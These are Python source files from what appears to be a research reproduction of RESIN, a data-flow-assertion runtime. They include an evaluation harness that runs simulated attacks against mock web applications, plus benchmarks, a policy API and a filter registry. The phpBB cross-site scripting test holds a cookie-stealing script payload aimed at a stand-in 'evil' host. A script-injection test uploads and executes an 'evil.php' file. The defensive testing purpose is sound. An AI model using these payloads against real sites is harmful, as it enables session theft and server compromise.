        return "secret" in board.search_excerpts("salaries",
                                                 "mallory").body()

    attacks = [
        _attack("printable view misses permission check (known)", printable),
        _attack("reply quoting leaks unreadable message (plugin)",
                reply_quote),
        _attack("RSS plugin exports restricted messages (plugin)", rss),
        _attack("search plugin leaks excerpts (plugin)", search),
    ]
    legitimate = ("secret" in board.view_message(10, "admin").body()
                  and "hello world" in board.view_message(
                      11, "mallory").body())
    return RowResult("phpBB", "Missing access control checks", 23, 1, 3,
                     attacks, legitimate)


def run_phpbb_xss(use_resin: bool) -> RowResult:
    from ..channels.socketchan import SocketChannel
    board = _phpbb_fixture(use_read=False, use_xss=use_resin)
    payload = "<script>document.location='http://evil/'+document.cookie</script>"

    def with_input(value):
        return mark_untrusted(value, "http-param") if use_resin else value

    def preview() -> bool:
        return payload in board.post_preview(with_input(payload), "body",
                                             "viewer").body()

    def search() -> bool:
        return payload in board.highlight_search(with_input(payload),
                                                 "viewer").body()

    def signature() -> bool:
        board.set_signature("eve", payload)
        return payload in board.profile_page("eve", "viewer").body()

    def whois() -> bool:
        server = SocketChannel("whois.example.net")
        server.feed(payload + "\nRegistrant: Example Corp")
        return payload in board.whois_page("example.com", server,
                                           "viewer").body()

    attacks = [
        _attack("post preview echoes subject unescaped (known)", preview),
        _attack("search header echoes term unescaped (known)", search),
        _attack("profile signature rendered unescaped (known)", signature),
        _attack("whois response rendered unescaped (known, unusual path)",
                whois),
    ]
    legitimate = "hello world" in board.view_message(11, "viewer").body()
    return RowResult("phpBB", "Cross-site scripting", 22, 4, 0, attacks,
                     legitimate)


# --------------------------------------------------------------------------
# Server-side script injection (five applications, one assertion)
# --------------------------------------------------------------------------

def run_script_injection(use_resin: bool) -> RowResult:
    # The script-injection assertion is installed on each application's own
    # environment registry, so no process-global setup/teardown is needed
    # (the pre-registry code had to reset_default_filters() around this).
    from ..apps.scriptapps import VULNERABLE_APPS, UploadApp
    attacks: List[AttackResult] = []
    legitimate = True
    for name, cve in VULNERABLE_APPS:
        app = UploadApp(name, Environment(), use_resin=use_resin, cve=cve)
        app.run_index()
        legitimate = legitimate and bool(True)
        app.upload("mallory", "evil.php",
                   "globals_dict['pwned'] = True")

        def exploit(app=app) -> bool:
            app.http_get(f"/{app.name}/uploads/evil.php")
            return bool(app.env.interpreter.globals.get("pwned"))

        attacks.append(_attack(f"upload-and-execute in {name} ({cve})",
                               exploit))
    return RowResult("many (upload-enabled PHP apps)",
                     "Server-side script injection", 12, 5, 0, attacks,
                     legitimate)


# --------------------------------------------------------------------------
# The full table
# --------------------------------------------------------------------------

SCENARIOS: List[Scenario] = [
    Scenario("MIT EECS grad admissions", "Python", 18_500, "SQL injection",
             9, 0, 3, "SQL injection", run_admissions),
    Scenario("MoinMoin", "Python", 89_600, "Read ACL", 8, 2, 0,
             "Missing read access control checks", run_moinmoin_read),
    Scenario("MoinMoin", "Python", 89_600, "Write ACL", 15, 0, 0,
             "Missing write access control checks", run_moinmoin_write),
    Scenario("File Thingie file manager", "PHP", 3_200, "Write access", 19,
             0, 1, "Directory traversal, file access control",
             run_file_thingie),
    Scenario("HotCRP", "PHP", 29_000, "Password disclosure", 23, 1, 0,
             "Password disclosure", run_hotcrp_password),
    Scenario("HotCRP", "PHP", 29_000, "Paper access", 30, 0, 0,
             "Missing access checks for papers", run_hotcrp_paper_access),
    Scenario("HotCRP", "PHP", 29_000, "Author list", 32, 0, 0,
             "Missing access checks for author list", run_hotcrp_author_list),
    Scenario("myPHPscripts login library", "PHP", 425, "Password disclosure",
             6, 1, 0, "Password disclosure", run_loginlib),
    Scenario("PHP Navigator", "PHP", 4_100, "Write access", 17, 0, 1,
             "Directory traversal, file access control", run_php_navigator),
    Scenario("phpBB", "PHP", 172_000, "Read access", 23, 1, 3,
             "Missing access control checks", run_phpbb_access),
    Scenario("phpBB", "PHP", 172_000, "Cross-site scripting", 22, 4, 0,
             "Cross-site scripting", run_phpbb_xss),
    Scenario("many [3, 11, 16, 23, 36]", "PHP", 0, "Script injection", 12,
             5, 0, "Server-side script injection", run_script_injection),
]


def run_scenario(scenario: Scenario, use_resin: bool,
                 policy_mode: str = "observe") -> RowResult:
    # Every scenario builds its own Environment (and thus its own filter
    # registry), so scenarios are isolated without global teardown.  The
    # policy mode is applied as the construction-time default so the
    # scenario's internally-built databases inherit it; verdicts must be
    # identical in both modes (enforce only moves *where* decidable
    # checks run, never their outcome).
    from ..channels.sqlchan import default_policy_mode
    with default_policy_mode(policy_mode):
        return scenario.runner(use_resin)


def run_all(use_resin: bool, policy_mode: str = "observe") -> List[RowResult]:
    return [run_scenario(s, use_resin, policy_mode) for s in SCENARIOS]


def run_all_concurrent(use_resin: bool, workers: int = 16,
                       front_end: str = "threads",
                       policy_mode: str = "observe") -> List[RowResult]:
    """Run every Table 4 scenario concurrently.

    Both front ends serve the suite through the same miniature evaluation
    service — a routed :class:`~repro.web.app.WebApplication` where
    ``POST /scenario/<int:index>`` runs row *index* of the table —
    dispatched either by the thread-pool
    :class:`~repro.server.dispatcher.Dispatcher` (``front_end="threads"``)
    or by the event-loop
    :class:`~repro.server.async_dispatcher.AsyncDispatcher`
    (``front_end="async"``; the scenario handler is synchronous, so the
    dispatcher routes it to its executor), or over real loopback sockets
    through the HTTP/1.1 front end (``front_end="socket"``: an
    :class:`~repro.server.http.HTTPServer` on a background thread, one
    ``http.client`` POST per scenario from ``workers`` concurrent client
    threads, the evaluator principal carried in an ``X-Resin-User``
    header).

    Each scenario owns its environment (and phpBB/MoinMoin/HotCRP publish
    their board / wiki / site as environment services, ``env.services``), so
    N simultaneous attack suites don't leak taint or policy state into each
    other, and the filesystem scenarios (MoinMoin write ACL, the file
    managers' traversal attacks) exercise ``ResinFS``'s per-subtree locks
    under real concurrency; results come back in ``SCENARIOS`` order and
    must match :func:`run_all` verdict-for-verdict under either front end.
    """
    if front_end not in ("threads", "async", "socket"):
        raise ValueError(f"unknown front_end {front_end!r}")
    from ..channels.sqlchan import default_policy_mode
    from ..server.async_dispatcher import AsyncDispatcher
    from ..server.dispatcher import Dispatcher
    from ..web.request import Request

    # The default-mode override is a process-wide setting (worker threads
    # build scenario environments mid-run and must see it), held for the
    # whole pass and restored afterwards.
    with default_policy_mode(policy_mode):
        app, results = _build_harness_app(use_resin)
        if front_end == "socket":
            _run_scenarios_over_socket(app, workers)
            return [results[index] for index in range(len(SCENARIOS))]
        requests = [Request(f"/scenario/{index}", method="POST",
                            user="evaluator")
                    for index in range(len(SCENARIOS))]
        if front_end == "async":
            with AsyncDispatcher(app, workers=workers) as server:
                server.run(requests)
        else:
            with Dispatcher(app, workers=workers) as server:
                server.dispatch_all(requests)
        return [results[index] for index in range(len(SCENARIOS))]


def _run_scenarios_over_socket(app, workers: int) -> None:
    """POST every scenario to a live :class:`~repro.server.http.HTTPServer`.

    The server trusts the ``X-Resin-User`` header for the principal (the
    harness plays ``evaluator``, matching the in-process front ends), and
    the scenario requests are issued from ``workers`` concurrent client
    threads so the suite exercises real keep-alive connections under
    parallel load.  Any non-200 response fails the run loudly rather than
    silently dropping a row.
    """
    import http.client
    from concurrent.futures import ThreadPoolExecutor

    from ..server.http import HTTPServer, ServerHandle

    server = HTTPServer(app, workers=workers, user_header="x-resin-user",
                        read_timeout=60.0, write_timeout=60.0)

    def post_scenario(index: int) -> None:
        conn = http.client.HTTPConnection("127.0.0.1", handle.port,
                                          timeout=60)
        try:
            conn.request("POST", f"/scenario/{index}",
                         headers={"X-Resin-User": "evaluator"})
            reply = conn.getresponse()
            body = reply.read()
            if reply.status != 200:
                raise RuntimeError(
                    f"scenario {index} returned HTTP {reply.status}: "
                    f"{body[:200]!r}")
        finally:
            conn.close()

    with ServerHandle(server).start() as handle:
        with ThreadPoolExecutor(max_workers=workers) as pool:
            for outcome in pool.map(post_scenario, range(len(SCENARIOS))):
                pass  # re-raises the first client-side failure


def _build_harness_app(use_resin: bool):
    """The miniature evaluation service behind :func:`run_all_concurrent`.

    Every request is served inside its own
    :class:`~repro.core.request_context.RequestContext`; the scenarios build
    their own environments underneath, which is exactly the nesting a
    production deployment has (front-end request scope around application
    work).  The route is method-aware and parameterized: the row index is a
    typed ``<int:...>`` path segment, and only ``POST`` runs a scenario.
    """
    from ..web.app import WebApplication

    app = WebApplication(Environment(), "table4-harness")
    results: Dict[int, RowResult] = {}

    @app.route("/scenario/<int:index>", methods=["POST"])
    def scenario_route(request, response, index):
        results[index] = run_scenario(SCENARIOS[index], use_resin)
        response.write(f"row {index} done")

    return app, results


def verdicts(results: List[RowResult]) -> List[tuple]:
    """A comparable per-scenario summary: (application, per-attack
    (name, succeeded, blocked) tuples, legitimate_ok)."""
    return [(row.application,
             tuple((a.name, a.succeeded, a.blocked_by_policy)
                   for a in row.attacks),
             row.legitimate_ok)
            for row in results]


def format_table(protected: List[RowResult],
                 unprotected: List[RowResult]) -> str:
    """Render a Table 4-style report comparing the two configurations."""
    header = (f"{'Application':32} {'Assertion LOC':>13} {'Known':>6} "
              f"{'Discovered':>11} {'Exploitable (no RESIN)':>23} "
              f"{'Prevented (RESIN)':>18}")
    lines = [header, "-" * len(header)]
    for with_resin, without in zip(protected, unprotected):
        lines.append(
            f"{with_resin.application:32} {with_resin.assertion_loc:>13} "
            f"{with_resin.known_vulnerabilities:>6} "
            f"{with_resin.discovered_vulnerabilities:>11} "
            f"{without.exploited:>23} {with_resin.prevented:>18}")
    total_prevented = sum(r.prevented for r in protected)
    total_exploitable = sum(r.exploited for r in unprotected)
    lines.append("-" * len(header))
    lines.append(f"{'TOTAL':32} {'':>13} {'':>6} {'':>11} "
                 f"{total_exploitable:>23} {total_prevented:>18}")
    return "\n".join(lines)
