"""Evaluation harnesses shared by the integration tests and the benchmarks.

One module per experiment family:

* :mod:`repro.evaluation.table4` — the security evaluation (Table 4);
* :mod:`repro.evaluation.table5` — the microbenchmarks (Table 5);
* :mod:`repro.evaluation.hotcrp_perf` — HotCRP page-generation overhead
  (Section 7.1).
"""

from . import hotcrp_perf, table4, table5

__all__ = ["table4", "table5", "hotcrp_perf"]
