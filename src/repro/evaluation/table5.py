"""Experiment E4: the microbenchmark operations of Table 5.

Table 5 measures the cost of individual operations in three configurations:

* an **unmodified** interpreter (plain Python objects here),
* the **RESIN** interpreter with **no policy** attached (tainted types whose
  policy sets are empty), and
* the RESIN interpreter with an **empty policy** attached (a bare ``Policy``
  that tracks but never rejects).

The operations are: variable assignment, function call, string
concatenation, integer addition, file open / 1 KB read / 1 KB write, and SQL
SELECT / INSERT / DELETE over 10 columns.  Absolute numbers are not expected
to match the paper's C-level implementation; the *shape* (propagation is
cheap, merging with a policy costs more, SQL dominates) is what the
benchmark checks.
"""

from __future__ import annotations
from typing import Callable, Dict
from ..core.policy import Policy
from ..fs.resinfs import ResinFS
from ..sql.engine import Engine
from ..channels.sqlchan import Database
from ..tracking.tainted_number import TaintedInt
from ..tracking.tainted_str import TaintedStr

#: Configurations measured in Table 5.
CONFIGURATIONS = ("unmodified", "resin_no_policy", "resin_empty_policy")

#: Operations measured in Table 5 (name, unit-of-work description).
OPERATIONS = (
    "assign_variable",
    "function_call",
    "string_concat",
    "integer_addition",
    "file_open",
    "file_read_1kb",
    "file_write_1kb",
    "sql_select",
    "sql_insert",
    "sql_delete",
)


class EmptyPolicy(Policy):
    """The "empty policy" of Table 5: tracked everywhere, allows everything."""


def _noop(value):
    return value


class MicrobenchSuite:
    """Builds the callables the benchmark harness times.

    Each callable performs one operation of Table 5 under one configuration
    and is safe to call repeatedly.
    """

    def __init__(self, configuration: str):
        if configuration not in CONFIGURATIONS:
            raise ValueError(f"unknown configuration {configuration!r}")
        self.configuration = configuration
        self._policy = EmptyPolicy()
        self._setup_values()
        self._setup_files()
        self._setup_sql()

    # -- fixtures -----------------------------------------------------------------

    def _setup_values(self) -> None:
        if self.configuration == "unmodified":
            self.string_a = "a" * 32
            self.string_b = "b" * 32
            self.int_a = 12345
            self.int_b = 67890
        elif self.configuration == "resin_no_policy":
            self.string_a = TaintedStr("a" * 32)
            self.string_b = TaintedStr("b" * 32)
            self.int_a = TaintedInt(12345)
            self.int_b = TaintedInt(67890)
        else:
            self.string_a = TaintedStr("a" * 32).with_policy(self._policy)
            self.string_b = TaintedStr("b" * 32).with_policy(self._policy)
            self.int_a = TaintedInt(12345, (self._policy,))
            self.int_b = TaintedInt(67890, (self._policy,))

    def _setup_files(self) -> None:
        self.payload_1kb = self._wrap_string("x" * 1024)
        if self.configuration == "unmodified":
            # Plain Python files are modelled by the raw in-memory filesystem
            # (no policy xattrs, no filters).
            self.fs = ResinFS()
            self.raw_fs = self.fs.raw
            self.raw_fs.mkdir("/bench")
            self.raw_fs.write_raw("/bench/data.bin", b"x" * 1024)
        else:
            self.fs = ResinFS()
            self.fs.mkdir("/bench")
            self.fs.write_text("/bench/data.bin", self.payload_1kb)

    def _setup_sql(self) -> None:
        columns = [f"col{i}" for i in range(10)]
        create = ("CREATE TABLE bench (" +
                  ", ".join(f"{c} TEXT" for c in columns) + ")")
        if self.configuration == "unmodified":
            self.engine = Engine()
            self.engine.run(create)
            self.db = None
        else:
            self.db = Database(Engine(), persist_policies=True)
            self.db.execute_unchecked(create)
            self.engine = self.db.engine
        self.sql_columns = columns
        values = ", ".join(f"'{self._cell_text(i)}'" for i in range(10))
        self.insert_query = (f"INSERT INTO bench ({', '.join(columns)}) "
                             f"VALUES ({values})")
        self.select_query = f"SELECT {', '.join(columns)} FROM bench"
        self.delete_query = "DELETE FROM bench"
        # Pre-populate some rows so SELECT has work to do.
        for _ in range(10):
            self._sql_execute(self._insert_statement())

    def _cell_text(self, index: int) -> str:
        return f"value-{index:02d}-" + "d" * 16

    def _wrap_string(self, text: str):
        if self.configuration == "unmodified":
            return text
        tainted = TaintedStr(text)
        if self.configuration == "resin_empty_policy":
            tainted = tainted.with_policy(self._policy)
        return tainted

    def _insert_statement(self):
        if self.configuration == "unmodified":
            return self.insert_query
        values = []
        for i in range(10):
            values.append("'" + str(self._wrap_string(self._cell_text(i)))
                          + "'")
        # Build a tainted query so the cell literals carry policies (the
        # "empty policy" configuration of the paper stores one serialized
        # policy per cell).
        query = TaintedStr(f"INSERT INTO bench ({', '.join(self.sql_columns)})"
                           " VALUES (")
        for index in range(10):
            if index:
                query = query + ", "
            query = query + "'" + self._wrap_string(self._cell_text(index)) + "'"
        query = query + ")"
        return query

    def _sql_execute(self, query):
        if self.db is None:
            return self.engine.run(str(query))
        return self.db.query(query)

    # -- the measured operations -------------------------------------------------------------

    def assign_variable(self) -> None:
        value = self.string_a
        other = value
        del other

    def function_call(self) -> None:
        _noop(self.string_a)

    def string_concat(self) -> None:
        result = self.string_a + self.string_b
        del result

    def integer_addition(self) -> None:
        result = self.int_a + self.int_b
        del result

    def file_open(self) -> None:
        if self.configuration == "unmodified":
            self.raw_fs.read_raw("/bench/data.bin")[:0]
        else:
            handle = self.fs.open("/bench/data.bin", "r")
            handle.close()

    def file_read_1kb(self) -> None:
        if self.configuration == "unmodified":
            data = self.raw_fs.read_raw("/bench/data.bin")
        else:
            data = self.fs.read_bytes("/bench/data.bin")
        del data

    def file_write_1kb(self) -> None:
        if self.configuration == "unmodified":
            self.raw_fs.write_raw("/bench/out.bin", b"x" * 1024)
        else:
            self.fs.write_bytes("/bench/out.bin", self.payload_1kb)

    def sql_select(self) -> None:
        self._sql_execute(self.select_query)

    def sql_insert(self) -> None:
        self._sql_execute(self._insert_statement())

    def sql_delete(self) -> None:
        self._sql_execute(self.delete_query)
        # Re-populate so subsequent deletes have rows to remove.
        self._sql_execute(self._insert_statement())

    def operation(self, name: str) -> Callable[[], None]:
        if name not in OPERATIONS:
            raise ValueError(f"unknown operation {name!r}")
        return getattr(self, name)


def build_suites() -> Dict[str, MicrobenchSuite]:
    """One suite per configuration."""
    return {configuration: MicrobenchSuite(configuration)
            for configuration in CONFIGURATIONS}


#: The paper's measurements (microseconds), for side-by-side reporting in
#: EXPERIMENTS.md and the benchmark output.
PAPER_TABLE5_MICROSECONDS = {
    "assign_variable": (0.196, 0.210, 0.214),
    "function_call": (0.598, 0.602, 0.619),
    "string_concat": (0.315, 0.340, 0.463),
    "integer_addition": (0.224, 0.247, 0.384),
    "file_open": (5.60, 7.05, 18.2),
    "file_read_1kb": (14.0, 16.6, 26.7),
    "file_write_1kb": (57.4, 60.5, 71.7),
    "sql_select": (134, 674, 832),
    "sql_insert": (64.8, 294, 508),
    "sql_delete": (64.7, 114, 115),
}
