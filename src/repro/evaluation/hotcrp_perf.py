"""Experiment E5: HotCRP application performance (Section 7.1).

The paper measures the time to generate the paper-view page for a PC member
— title and abstract shown, the (anonymous) author list suppressed via the
output-buffering mechanism — with an unmodified interpreter (66 ms) and with
RESIN (88 ms), a 33 % CPU overhead.

``HotCRPPageWorkload`` builds the two configurations of the same site and
exposes ``generate_page()`` as the timed unit of work; the benchmark reports
the measured overhead ratio next to the paper's 1.33×.
"""

from __future__ import annotations



from ..apps.hotcrp import HotCRP
from ..core.request_context import RequestContext
from ..environment import Environment

#: Overhead the paper reports for this workload (88 ms / 66 ms).
PAPER_OVERHEAD_RATIO = 88.0 / 66.0


class HotCRPPageWorkload:
    """One configuration (with or without RESIN) of the Section 7.1 page."""

    def __init__(self, use_resin: bool, paper_id: int = 1,
                 pc_member: str = "pc@example.org",
                 policy_mode: str = "observe", population: int = 0):
        self.use_resin = use_resin
        self.paper_id = paper_id
        self.pc_member = pc_member
        self.policy_mode = policy_mode
        #: Extra accounts/papers/reviews seeded around the measured paper —
        #: at 0 the site matches the paper's minimal configuration; larger
        #: populations exercise the planner's index lookups on the page's
        #: hot queries (users by email, papers by id, reviews by paper).
        self.population = population
        self.site = self._build_site()
        if use_resin:
            self.site.env.db.set_policy_mode(policy_mode)

    def _build_site(self) -> HotCRP:
        # The unmodified configuration runs on a substrate without policy
        # persistence (no policy columns, no serialization), mirroring the
        # paper's unmodified-interpreter baseline.
        site = HotCRP(Environment(persist_policies=self.use_resin),
                      use_resin=self.use_resin)
        site.register_user(self.pc_member, "pc-password", is_pc=True)
        site.register_user("chair@example.org", "chair-password", is_pc=True,
                           priv_chair=True)
        site.register_user("author@example.org", "author-password")
        site.submit_paper(
            self.paper_id,
            "Improving Application Security with Data Flow Assertions",
            ("We present a language runtime that lets programmers state "
             "data flow assertions and checks them on every path. ") * 12,
            ["author@example.org", "second@example.org"],
            anonymous=True)
        site.add_review(self.paper_id, self.pc_member,
                        "The mechanism is simple and the evaluation broad.",
                        released=False)
        for n in range(self.population):
            site.register_user(f"member{n}@example.org", f"pw-{n}",
                               is_pc=(n % 3 == 0))
            site.submit_paper(
                1000 + n, f"Population paper {n}",
                "Filler abstract for planner benchmarking. " * 4,
                [f"member{n}@example.org"], anonymous=(n % 2 == 0))
            site.add_review(1000 + n, self.pc_member, f"Review {n}.",
                            released=False)
        return site

    def generate_page(self) -> str:
        """The timed unit of work: one paper-view page for the PC member."""
        if self.policy_mode == "enforce":
            # Enforce-mode plan clearance is scoped to a requesting
            # principal; bind the PC member's request context around the
            # page, as the web front end does per request.
            with RequestContext(env=self.site.env, user=self.pc_member,
                                is_pc=True):
                return self.site.paper_page(self.paper_id,
                                            self.pc_member).body()
        response = self.site.paper_page(self.paper_id, self.pc_member)
        return response.body()

    def page_size(self) -> int:
        return len(self.generate_page())


def build_workloads() -> dict:
    """The paper's two configurations plus the enforce-mode variant, which
    pays decidable policy checks once per query plan instead of once per
    result cell; all three render byte-identical pages."""
    return {
        "unmodified": HotCRPPageWorkload(use_resin=False),
        "resin": HotCRPPageWorkload(use_resin=True),
        "resin-enforce": HotCRPPageWorkload(use_resin=True,
                                            policy_mode="enforce"),
    }
