"""The public RESIN API (Table 3 of the paper).

``policy_add``, ``policy_remove`` and ``policy_get`` are the three functions
a programmer calls to annotate data with policy objects and to inspect a
datum's policy set.  Because Python strings, bytes and numbers are immutable,
``policy_add`` and ``policy_remove`` return a *new* value carrying the
updated policy set (exactly like the paper's Python prototype, Section 5).
"""

from __future__ import annotations

from typing import Any, Optional

from .policy import Policy
from .policyset import PolicySet
from ..tracking.tainted_bytes import TaintedBytes, taint_bytes
from ..tracking.tainted_number import (TaintedFloat, TaintedInt, taint_float,
                                       taint_int)
from ..tracking.tainted_str import TaintedStr, taint_str

__all__ = ["policy_add", "policy_remove", "policy_get", "taint", "untaint",
           "has_policy"]


def policy_add(data: Any, policy: Policy, start: int = 0,
               stop: Optional[int] = None) -> Any:
    """Add ``policy`` to ``data``'s policy set and return the annotated value.

    For strings and bytes the policy is attached to the character/byte range
    ``[start, stop)`` (the whole value by default); for numbers it is attached
    to the value as a whole.
    """
    if not isinstance(policy, Policy):
        raise TypeError(f"expected a Policy, got {type(policy).__name__}")
    if isinstance(data, TaintedStr):
        return data.with_policy(policy, start, stop)
    if isinstance(data, str):
        return taint_str(data).with_policy(policy, start, stop)
    if isinstance(data, TaintedBytes):
        return data.with_policy(policy, start, stop)
    if isinstance(data, (bytes, bytearray)):
        return taint_bytes(bytes(data)).with_policy(policy, start, stop)
    if isinstance(data, TaintedInt):
        return data.with_policy(policy)
    if isinstance(data, bool):
        raise TypeError("policies cannot be attached to booleans")
    if isinstance(data, int):
        return taint_int(data, (policy,))
    if isinstance(data, TaintedFloat):
        return data.with_policy(policy)
    if isinstance(data, float):
        return taint_float(data, (policy,))
    if isinstance(data, list):
        return [policy_add(item, policy) for item in data]
    if isinstance(data, tuple):
        return tuple(policy_add(item, policy) for item in data)
    if isinstance(data, dict):
        return {key: policy_add(value, policy) for key, value in data.items()}
    raise TypeError(
        f"cannot attach a policy to {type(data).__name__}; policies apply to "
        "primitive data (str, bytes, int, float) and containers thereof")


def policy_remove(data: Any, policy: Policy) -> Any:
    """Remove ``policy`` from ``data``'s policy set and return the result."""
    if isinstance(data, (TaintedStr, TaintedBytes, TaintedInt, TaintedFloat)):
        return data.without_policy(policy)
    if isinstance(data, list):
        return [policy_remove(item, policy) for item in data]
    if isinstance(data, tuple):
        return tuple(policy_remove(item, policy) for item in data)
    if isinstance(data, dict):
        return {key: policy_remove(value, policy)
                for key, value in data.items()}
    return data


def policy_get(data: Any) -> PolicySet:
    """Return the set of policies associated with ``data``.

    For strings and bytes this is the union over all characters/bytes; use
    ``data.policies_at(i)`` or ``data.rangemap`` for per-character queries.
    """
    from ..tracking.propagation import policies_of
    return policies_of(data)


def has_policy(data: Any, policy_type, *, every_char: bool = False) -> bool:
    """True if ``data`` carries a policy of ``policy_type``.

    With ``every_char=True``, strings/bytes only count if *every* character
    carries such a policy (the check the script-injection filter needs,
    Figure 6 footnote).
    """
    if every_char and isinstance(data, (TaintedStr, TaintedBytes)):
        return data.rangemap.every_position_has(policy_type)
    return policy_get(data).has_type(policy_type)


def taint(data: Any, *policies: Policy) -> Any:
    """Convenience wrapper: attach several policies at once."""
    for policy in policies:
        data = policy_add(data, policy)
    return data


def untaint(data: Any) -> Any:
    """Return a plain, policy-free copy of ``data``.

    Only boundary code (declassifiers) should call this; see
    :func:`repro.tracking.propagation.strip_policies`.
    """
    from ..tracking.propagation import strip_policies
    return strip_policies(data)
