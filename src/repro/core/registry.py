"""Environment-scoped default-filter registries.

Historically the mapping from channel type to default filter factory was a
process-global table in :mod:`repro.core.runtime`.  That made two
:class:`~repro.environment.Environment` instances in one process interfere
with each other: installing the script-injection assertion for one tenant
replaced the ``code``-channel filter for *every* tenant.

``FilterRegistry`` scopes that table.  Each ``Environment`` owns one
registry; every channel constructor resolves its default filter through the
registry of the environment that created it.  Registries form a lookup
chain: a registry that has no local factory for a channel type delegates to
its ``parent`` (by default the process-wide registry), and finally falls
back to the built-in :class:`~repro.core.filter.DefaultFilter`.

The process-wide registry still exists — :func:`default_registry` returns
it — as the root of every chain and the home of process-wide deployment
configuration.  The deprecated free-function mutators over it
(``set_default_filter_factory`` / ``reset_default_filters``) have been
removed; mutate it explicitly via ``default_registry()`` when that shape is
really wanted.
"""

from __future__ import annotations

import threading
from typing import Callable, Dict, Optional, Tuple

from .context import FilterContext, as_context
from .exceptions import FilterError
from .filter import DefaultFilter, Filter

__all__ = ["FilterRegistry", "default_registry", "resolve_registry",
           "CHANNEL_TYPES", "FilterFactory"]

FilterFactory = Callable[[FilterContext], Filter]

#: Channel types known to the runtime.  Applications may register additional
#: types; these are the ones the paper's default boundary covers.
CHANNEL_TYPES = ("file", "socket", "pipe", "http", "email", "sql", "code")


def _builtin_factory(context: FilterContext) -> Filter:
    return DefaultFilter(context)


class FilterRegistry:
    """A scoped mapping from channel type to default filter factory."""

    __slots__ = ("_factories", "parent", "_lock")

    def __init__(self, parent: Optional["FilterRegistry"] = None):
        self._factories: Dict[str, FilterFactory] = {}
        self.parent = parent
        # Registries are written at deployment time but read on every channel
        # construction, possibly from many request threads; the lock keeps
        # the writes atomic (reads stay lock-free — dict lookups are atomic).
        self._lock = threading.Lock()

    # -- factory management ------------------------------------------------------

    def set_default_filter_factory(self, channel_type: str,
                                   factory: FilterFactory) -> None:
        """Override the default filter installed on new channels of
        ``channel_type`` created through this registry.

        The paper's script-injection assertion does exactly this for the
        ``code`` channel: it replaces the permissive default filter with one
        that requires a ``CodeApproval`` policy (Section 5.2).
        """
        if not callable(factory):
            raise FilterError("filter factory must be callable")
        with self._lock:
            self._factories[channel_type] = factory

    def get_default_filter_factory(self, channel_type: str) -> FilterFactory:
        registry: Optional[FilterRegistry] = self
        while registry is not None:
            factory = registry._factories.get(channel_type)
            if factory is not None:
                return factory
            registry = registry.parent
        return _builtin_factory

    def has_override(self, channel_type: str, *, inherited: bool = True) -> bool:
        """True if a non-builtin factory is registered for ``channel_type``
        (in this registry, or — with ``inherited`` — anywhere up the chain)."""
        if channel_type in self._factories:
            return True
        if inherited and self.parent is not None:
            return self.parent.has_override(channel_type)
        return False

    def overrides(self) -> Tuple[str, ...]:
        """The channel types with a *local* factory override."""
        with self._lock:
            return tuple(sorted(self._factories))

    def reset(self, channel_type: Optional[str] = None) -> None:
        """Drop this registry's local overrides (parent overrides, if any,
        become visible again).  With ``channel_type``, drop only that one."""
        with self._lock:
            if channel_type is None:
                self._factories.clear()
            else:
                self._factories.pop(channel_type, None)

    def child(self) -> "FilterRegistry":
        """A new registry that inherits from this one."""
        return FilterRegistry(parent=self)

    # -- filter construction ------------------------------------------------------

    def make_default_filter(self, channel_type: str,
                            context: Optional[dict] = None) -> Filter:
        """Create the default filter for a new channel of ``channel_type``."""
        ctx = as_context(context)
        ctx.setdefault("type", channel_type)
        flt = self.get_default_filter_factory(channel_type)(ctx)
        if not isinstance(flt, Filter):
            raise FilterError(
                f"default filter factory for {channel_type!r} returned "
                f"{type(flt).__name__}, expected a Filter")
        if flt.context is not ctx:
            # The factory built its own context.  Merge its keys (including
            # an explicit "type") into the runtime-prepared context *in
            # place* and share that one object, so that later channel
            # context mutations (e.g. HTTPOutputChannel.set_user) stay
            # visible to the filter.  The old code built a third, divorced
            # dict here, losing those mutations.
            for key, value in flt.context.items():
                ctx[key] = value
            flt.context = ctx
        return flt

    def __repr__(self) -> str:
        chain = []
        registry: Optional[FilterRegistry] = self
        while registry is not None:
            chain.append("{%s}" % ", ".join(sorted(registry._factories)))
            registry = registry.parent
        return f"FilterRegistry({' -> '.join(chain)})"


#: The process-wide registry behind the deprecated module-level functions.
_process_registry = FilterRegistry()


def default_registry() -> FilterRegistry:
    """The process-wide default registry (the deprecation-shim target).

    New code should use an :class:`~repro.environment.Environment`'s own
    ``registry`` (or the :class:`~repro.runtime_api.Resin` facade) instead;
    this registry only exists so that pre-registry code and the old free
    functions keep working.
    """
    return _process_registry


def resolve_registry(registry: Optional[FilterRegistry] = None,
                     env=None) -> FilterRegistry:
    """Resolve the registry a channel constructor should use.

    Preference order: an explicit ``registry``, then the ``registry`` of the
    owning environment, then the process-wide default registry.
    """
    if registry is not None:
        if not isinstance(registry, FilterRegistry):
            raise FilterError(
                f"expected a FilterRegistry, got {type(registry).__name__}")
        return registry
    if env is not None:
        env_registry = getattr(env, "registry", None)
        if isinstance(env_registry, FilterRegistry):
            return env_registry
    return _process_registry
